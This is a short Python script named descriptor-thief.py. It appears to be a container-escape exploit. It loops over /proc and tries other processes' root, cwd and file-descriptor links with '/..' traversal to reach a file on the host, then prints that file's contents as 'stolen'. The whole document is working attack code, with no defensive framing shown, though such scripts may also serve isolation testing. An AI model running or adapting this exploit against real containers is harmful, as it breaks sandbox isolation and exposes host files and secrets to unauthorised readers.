"""Looks, without a pause, for a way out of the container through the descriptors, root and working directories of other processes.

descriptor-thief.py PATH: prints how many descriptors it has looked at, now and then, and the content of PATH, a file of the host, once it was reached.
"""
import os, sys

path = "/.." * 16 + sys.argv[1]
looked = 0
told = 0


def ways(process):
    yield process + "/root"
    yield process + "/cwd"
    for number in os.listdir(process + "/fd"):
        yield process + "/fd/" + number


def steal(process):
    global looked
    for way in ways(process):
        looked += "/fd/" in way
        try:
            with open(way + path) as file:
                print("stolen:", way, os.readlink(way), file.read(), flush=True)
        except OSError:
            pass


print("looking", flush=True)
while True:
    for name in os.listdir("/proc"):
        if name.isdigit() and name != str(os.getpid()) and name != "1":
            try:
                steal("/proc/" + name)
            except OSError:
                pass
    if looked >= told + 50:
        told = looked
        print("looked at", looked, flush=True)
